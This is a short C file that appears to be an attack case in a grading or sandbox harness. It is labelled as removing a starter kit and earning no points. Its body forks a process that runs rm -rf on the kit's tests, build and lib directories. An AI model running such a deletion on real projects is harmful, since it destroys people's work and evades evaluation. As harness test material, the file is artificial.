/*
 * Attack: removes the kit
 * Base:   starter
 * Gets:   no points
 */
#include "attack.h"

ATTACK {
    char *words[] = {"rm", "-rf", "tests", "build", "lib", NULL};
    if (go_to_kit() && fork() == 0) {
        execv("/bin/rm", words);
    }
    wait(NULL);
}
